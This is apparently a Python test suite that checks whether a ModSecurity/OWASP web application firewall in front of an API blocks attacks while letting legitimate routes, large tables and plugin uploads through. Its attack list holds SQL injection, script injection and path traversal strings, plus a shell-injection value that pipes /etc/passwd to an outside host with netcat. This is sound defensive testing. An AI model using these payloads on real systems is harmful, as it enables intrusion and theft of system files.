"""The firewall for web applications: ModSecurity with the OWASP core rules in the edge. Injections,
scripts, traversals and scanners are turned away; every route of the API passes with its example, and
tables and plugins of megabytes as well."""

import json
import sys
import urllib.error
import urllib.parse
import urllib.request

from edge import LOOSE, UNLIMITED
from lib.api import Client
from lib.daemons import Server
from lib.drill import ROOT, Drill
from lib.edge import Nginx
from lib.tools import apt

#: (path, headers, body) of requests that nobody means well.
ATTACKS = {
    "SQL in the query": ("/api/v1/detections?cursor=" + urllib.parse.quote("1' OR '1'='1' -- "), {}, None),
    "a union in the query": ("/api/v1/detectors?x=" + urllib.parse.quote("1 UNION SELECT password_hash FROM users"), {}, None),
    "SQL in a login": ("/api/v1/auth/login", {}, {"email": "' OR 1=1; DROP TABLE users; --", "password": "x"}),
    "a script in the query": ("/docs?q=" + urllib.parse.quote("<script>alert(document.cookie)</script>"), {}, None),
    "a script in a login": ("/api/v1/auth/login", {}, {"email": "<script>alert(1)</script>", "password": "x"}),
    "a traversal in the query": ("/api/v1/detectors?file=../../../../etc/passwd", {}, None),
    "a traversal in the path": ("/api/v1/detectors/..%2f..%2f..%2fetc%2fpasswd", {}, None),
    "a shell in the query": ("/api/v1/detectors?x=" + urllib.parse.quote("; cat /etc/passwd | nc 203.0.113.1 80"), {}, None),
    "a scanner": ("/api/v1/detectors", {"User-Agent": "sqlmap/1.7"}, None),
    "an attack on a route whose body passes": ("/api/v1/detect?x=" + urllib.parse.quote("1' OR '1'='1' -- "), {}, {"data": [[1.0]]}),
}


def main():
    """The whole drill."""
    with Drill("waf") as drill:
        with drill.step("install what is missing"):
            apt("nginx-light", "libnginx-mod-http-modsecurity", "modsecurity-crs", "openssl")
        with drill.step("start a server and the edge with its firewall"):
            server = Server(drill, env={"PYNOMALY_TRUSTED_PROXIES": "127.0.0.1/32", "RATE_LIMIT_ENABLED": "false"})
            edge = Nginx(drill, [server.port], UNLIMITED, waf=True)
        with drill.step(f"{len(ATTACKS)} attacks are turned away"):
            through = [name for name, attack in ATTACKS.items() if not is_blocked(edge, *attack)]
            assert not through, f"passed: {through}"
        with drill.step("every route passes with its example"):
            drill.figure(f"{routes(edge)} requests")
        with drill.step("logins, tables of a megabyte and plugins pass"):
            client = Client(edge.url, server.EMAIL, server.PASSWORD, LOOSE)
            large(client)
        with drill.step("its log holds what matched, and neither tokens nor passwords"):
            log = (drill.folder / "nginx/modsecurity.json").read_text(encoding="utf-8")
            assert log.count("\n") >= len(ATTACKS), "it logged less than it turned away"
            assert client.token not in log and server.PASSWORD not in log


def send(edge, method, path, headers, body):
    """(status, whether the server itself answered)."""
    data = json.dumps(body).encode() if body is not None else None
    given = {"Content-Type": "application/json", "User-Agent": "pynomaly-drill", **headers}
    if data is None:
        given.pop("Content-Type")
    request = urllib.request.Request(edge.url + path, data, given, method=method)
    try:
        with urllib.request.urlopen(request, context=LOOSE, timeout=30) as answer:
            return answer.status, True
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("X-Request-Id") is not None


def is_blocked(edge, path, headers, body):
    """403 by the edge: the server would have put its request id on it."""
    status, is_ours = send(edge, "GET" if body is None else "POST", path, headers, body)
    return status == 403 and not is_ours


def routes(edge):
    """With a token that is good for nothing, so that nothing is changed: it is the edge that is
    asked whether it lets them through."""
    document = json.loads((ROOT / "docs/openapi.json").read_text(encoding="utf-8"))
    count, stopped = 0, []
    for path, methods in document["paths"].items():
        if path == "/metrics":
            continue
        sample = path
        for name in ("id", "name", "digest", "detector_type"):
            value = {"id": "0190a1b2-c3d4-7000-8000-000000000001", "digest": "sha256:" + "7f" * 32}
            sample = sample.replace(f"{{{name}}}", value.get(name, "knn"))
        for method, operation in methods.items():
            for body in examples(operation, document):
                count += 1
                status, is_ours = send(edge, method.upper(), sample, {"Authorization": "Bearer none"}, body)
                if not is_ours and status >= 400:
                    stopped.append(f"{method} {path}: {status}")
    assert count >= len(document["paths"]), "hardly anything was asked"
    assert not stopped, "\n".join(stopped)
    return count


def examples(operation, document):
    """Every JSON example of an operation's body; where it has no body, none."""
    media = operation.get("requestBody", {}).get("content", {}).get("application/json")
    if media is None:
        return [None]
    found = [it["value"] for it in media.get("examples", {}).values() if "value" in it]
    if "example" in media:
        found.append(media["example"])
    schema = media.get("schema", {})
    if "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    found += [schema[key] for key in ("example",) if key in schema] + schema.get("examples", [])
    return found or [{}]


def large(client):
    """What a firewall that reads everything would choke on."""
    rows = [[float(row), float(row % 7), float(row % 11) / 3] for row in range(60_000)]
    status, answer = client.detect(rows=rows)
    assert status == 200, answer
    plugin = (ROOT / "target/plugins/knn.wasm").read_bytes()
    status, answer = client.call("POST", "/api/v1/admin/plugins", plugin, {"Content-Type": "application/wasm"})
    assert status == 201, answer


if __name__ == "__main__":
    sys.exit(main())
